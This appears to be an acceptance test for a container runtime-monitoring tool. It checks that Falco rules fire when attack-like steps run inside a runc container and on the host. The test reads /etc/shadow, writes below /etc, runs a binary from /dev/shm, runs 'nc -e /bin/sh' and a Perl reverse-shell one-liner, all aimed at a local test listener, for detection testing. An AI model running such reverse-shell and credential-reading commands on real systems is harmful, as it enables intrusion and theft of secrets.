// Acceptance (issue 5, item 3): `bulwark runtime watch` on the real kernel with a real runc
// container from the debootstrap rootfs. Inside the container: an interactive shell on a terminal,
// cat /etc/shadow, a write below /etc, an executable run from /dev/shm, netcat (the reverse-shell
// form and a real outbound connection) and a Perl reverse shell. Each raises its stable, incubating or
// sandbox Falco rule with the runc id truncated to 12 characters. The same actions on the host raise
// no container-only rule.
import { spawn, type ChildProcess } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BIN } from '../support/cli.js';
import { fixture, hasFixtures } from '../support/fixtures.js';
import {
  containerId,
  destroy,
  netcatLayer,
  overlayBundle,
  runDetached,
  shellQuote,
  type Bundle,
} from '../support/runc.js';
import { missingTools } from '../support/tools.js';

const skip =
  missingTools(['bpftrace', 'runc', 'debootstrap', 'script', 'nc', 'perl'], { root: true }) ??
  (hasFixtures('falco/falco_rules.yaml') ? null : 'fixtures missing: falco rules');

interface Alert {
  rule: string;
  priority: string;
  output: string;
  output_fields: Record<string, unknown>;
  tags: string[];
}

/** Run a command to completion (never spawnSync: the test process must keep serving the listener). */
function run(
  cmd: string,
  args: string[],
  input?: string,
): Promise<{ code: number | null; out: string; err: string }> {
  return new Promise((resolve) => {
    const c = spawn(cmd, args, { stdio: [input === undefined ? 'ignore' : 'pipe', 'pipe', 'pipe'] });
    let out = '';
    let err = '';
    c.stdout!.on('data', (d: Buffer) => (out += d.toString()));
    c.stderr!.on('data', (d: Buffer) => (err += d.toString()));
    if (input !== undefined) {
      // An interactive shell reads its commands from the terminal; give script(1) time to set it up.
      setTimeout(() => c.stdin!.end(input), 500);
    }
    const t = setTimeout(() => c.kill('SIGKILL'), 60_000);
    c.on('close', (code) => {
      clearTimeout(t);
      resolve({ code, out, err });
    });
  });
}

const PERL_REVERSE_SHELL = (port: number) =>
  `use Socket; socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp")); ` +
  `connect(S,sockaddr_in(${port},inet_aton("127.0.0.1"))) or die "connect: $!"; ` +
  `open(STDIN,"<&S"); open(STDOUT,">&S"); exec("/bin/true");`;

describe.skipIf(skip)('bulwark runtime watch (live kernel, runc)', () => {
  const tmp = mkdtempSync('/tmp/bulwark-watch-');
  const alertsFile = join(tmp, 'alerts.jsonl');
  const id = containerId();
  const short = id.slice(0, 12);
  const hostEtc = `/etc/bulwark-watch-test-${process.pid}`;
  const hostShm = `/dev/shm/bulwark-watch-true-${process.pid}`;
  let bundle: Bundle;
  let watch: ChildProcess;
  let server: Server;
  let port = 0;
  let received = '';
  let stderr = '';
  let exitCode: number | null = null;
  let bpftracePid = 0;
  let alerts: Alert[] = [];

  beforeAll(async () => {
    server = createServer((s) => {
      s.on('error', () => {});
      s.on('data', (d) => (received += d.toString()));
      s.end();
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    port = (server.address() as { port: number }).port;
    // Our own rule, to see the outbound connection itself (stable rules skip loopback destinations).
    const testRules = join(tmp, 'test_rules.yaml');
    writeFileSync(
      testRules,
      `- rule: Bulwark test outbound connection from container
  desc: connect() from a container to the test listener
  condition: evt.type = connect and container and fd.sip = "127.0.0.1" and fd.sport = ${port}
  output: Outbound connection from container (connection=%fd.name proto=%fd.l4proto command=%proc.cmdline)
  priority: NOTICE
  tags: [container, network]
`,
    );
    bundle = await overlayBundle({
      args: ['sleep', '600'],
      layers: [await netcatLayer()],
      annotations: { 'org.opencontainers.image.ref.name': 'docker.io/library/debian:bookworm' },
    });
    // Runtimes mount /dev/shm noexec by default; this test runs a binary from it, as attackers do.
    for (const m of bundle.config.mounts)
      if (m.destination === '/dev/shm') m.options = m.options?.filter((o) => o !== 'noexec');
    bundle.save();

    watch = spawn(
      process.execPath,
      [
        BIN,
        'runtime',
        'watch',
        '-r',
        fixture('falco/falco_rules.yaml'),
        '-r',
        fixture('falco/falco-incubating_rules.yaml'),
        '-r',
        fixture('falco/falco-sandbox_rules.yaml'),
        '-r',
        testRules,
        '--rule-matching',
        'all',
        '--format',
        'json',
        '--output',
        alertsFile,
      ],
      { stdio: ['ignore', 'ignore', 'pipe'], env: { ...process.env, NO_COLOR: '1' } },
    );
    watch.stderr!.on('data', (d: Buffer) => (stderr += d.toString()));
    watch.on('exit', (code) => (exitCode = code));
    const t0 = Date.now();
    while (!stderr.includes('watching with') && exitCode === null && Date.now() - t0 < 300_000) {
      await new Promise((r) => setTimeout(r, 200));
    }
    expect(stderr).toContain('watching with');
    for (const pid of (await run('pgrep', ['-P', String(watch.pid), 'bpftrace'])).out.split('\n'))
      if (pid) bpftracePid = Number(pid);
  });

  afterAll(async () => {
    if (watch && exitCode === null) watch.kill('SIGKILL');
    destroy(id);
    bundle?.cleanup();
    server?.close();
    rmSync(tmp, { recursive: true, force: true });
    rmSync(hostEtc, { force: true });
    rmSync(hostShm, { force: true });
  });

  it('runs the attack steps in a container and on the host, then stops cleanly', async () => {
    runDetached(bundle, id);
    const inContainer = async (cmd: string) => run('runc', ['exec', id, 'sh', '-c', cmd]);
    // An interactive shell: `runc exec -t` gets a terminal from script(1) and the shell reads from it.
    const tty = await run(
      'script',
      ['-qec', `runc exec -t ${id} sh`, '/dev/null'],
      'echo in-tty-$((6*7))\nexit\n',
    );
    expect(tty.out).toContain('in-tty-42');
    expect((await inContainer('cat /etc/shadow >/dev/null')).code).toBe(0);
    expect((await inContainer('echo owned >> /etc/bulwark-mark')).code).toBe(0);
    expect((await inContainer('cp /bin/true /dev/shm/bwtrue && /dev/shm/bwtrue')).code).toBe(0);
    await inContainer(`nc -e /bin/sh 127.0.0.1 ${port}`); // openbsd nc has no -e: the attempt is what counts
    expect((await inContainer(`echo hello-from-container | nc -N 127.0.0.1 ${port}`)).code).toBe(0);
    expect((await run('runc', ['exec', id, 'perl', '-e', PERL_REVERSE_SHELL(port)])).code).toBe(0);

    // The same on the host.
    const hostTty = await run('script', ['-qec', 'sh', '/dev/null'], 'echo host-tty\nexit\n');
    expect(hostTty.out).toContain('host-tty');
    expect((await run('cat', ['/etc/shadow'])).code).toBe(0);
    expect((await run('sh', ['-c', `echo x >> ${hostEtc}`])).code).toBe(0);
    expect((await run('sh', ['-c', `cp /bin/true ${hostShm} && ${shellQuote(hostShm)}`])).code).toBe(0);
    await run('nc', ['-e', '/bin/sh', '127.0.0.1', String(port)]);
    expect((await run('sh', ['-c', `echo hello-from-host | nc -N 127.0.0.1 ${port}`])).code).toBe(0);

    await new Promise((r) => setTimeout(r, 3000));
    watch.kill('SIGINT');
    const t0 = Date.now();
    while (exitCode === null && Date.now() - t0 < 60_000) await new Promise((r) => setTimeout(r, 100));
    expect(exitCode).toBe(0);
    expect(stderr).toMatch(
      /stopped: \d+ kernel records, \d+ events, \d+ alerts; dropped \d+ in the kernel, \d+ in the queue/,
    );
    // Every probe is detached: the bpftrace process is gone.
    expect(bpftracePid).toBeGreaterThan(0);
    expect(
      existsSync(`/proc/${bpftracePid}/cmdline`) &&
        readFileSync(`/proc/${bpftracePid}/cmdline`, 'utf8').includes('bpftrace'),
    ).toBe(false);
    expect(received).toContain('hello-from-container');
    alerts = readFileSync(alertsFile, 'utf8')
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l) as Alert);
    expect(alerts.length).toBeGreaterThan(0);
  });

  const fromContainer = (rule: string) =>
    alerts.filter((a) => a.rule === rule && a.output_fields['container.id'] === short);

  it.each([
    [
      'Terminal shell in container',
      (a: Alert) => a.output_fields['proc.name'] === 'sh' && Number(a.output_fields['proc.tty']) > 0,
    ],
    ['Read sensitive file untrusted', (a: Alert) => a.output_fields['fd.name'] === '/etc/shadow'],
    ['Write below etc', (a: Alert) => a.output_fields['fd.name'] === '/etc/bulwark-mark'],
    ['Execution from /dev/shm', (a: Alert) => a.output_fields['proc.exepath'] === '/dev/shm/bwtrue'],
    [
      'Netcat Remote Code Execution in Container',
      (a: Alert) => String(a.output_fields['proc.cmdline']).startsWith('nc -e /bin/sh'),
    ],
    [
      'Launch Suspicious Network Tool in Container',
      (a: Alert) => String(a.output_fields['proc.cmdline']).startsWith('nc -N'),
    ],
    [
      'Redirect STDOUT/STDIN to Network Connection in Container',
      (a: Alert) => a.output_fields['fd.type'] === 'ipv4',
    ],
    [
      'Bulwark test outbound connection from container',
      (a: Alert) => a.output_fields['fd.l4proto'] === 'tcp',
    ],
  ])('raises "%s" with the runc id', (rule, check) => {
    const hits = fromContainer(rule);
    expect(
      hits.length,
      `alerts for ${rule}: ${alerts.filter((a) => a.rule === rule).length}`,
    ).toBeGreaterThan(0);
    expect(hits.some(check)).toBe(true);
    // Falco's suggested output fields: the container's name and image come from runc's state.
    expect(hits[0]!.output_fields['container.name']).toBe(id);
    expect(hits[0]!.output_fields['container.image.repository']).toBe('docker.io/library/debian');
  });

  it('raises no container-only rule for host processes, but does see the host', () => {
    const containerOnly = alerts.filter((a) => a.tags.includes('container') && !a.tags.includes('host'));
    expect(containerOnly.filter((a) => a.output_fields['container.id'] !== short)).toEqual([]);
    // The host's cat /etc/shadow is seen (a host-and-container rule) with container.id host.
    expect(
      alerts.some(
        (a) =>
          a.rule === 'Read sensitive file untrusted' &&
          a.output_fields['container.id'] === 'host' &&
          a.output_fields['proc.cmdline'] === 'cat /etc/shadow',
      ),
    ).toBe(true);
    expect(
      alerts.some(
        (a) =>
          a.rule === 'Write below etc' &&
          a.output_fields['fd.name'] === hostEtc &&
          a.output_fields['container.id'] === 'host',
      ),
    ).toBe(true);
  });
});
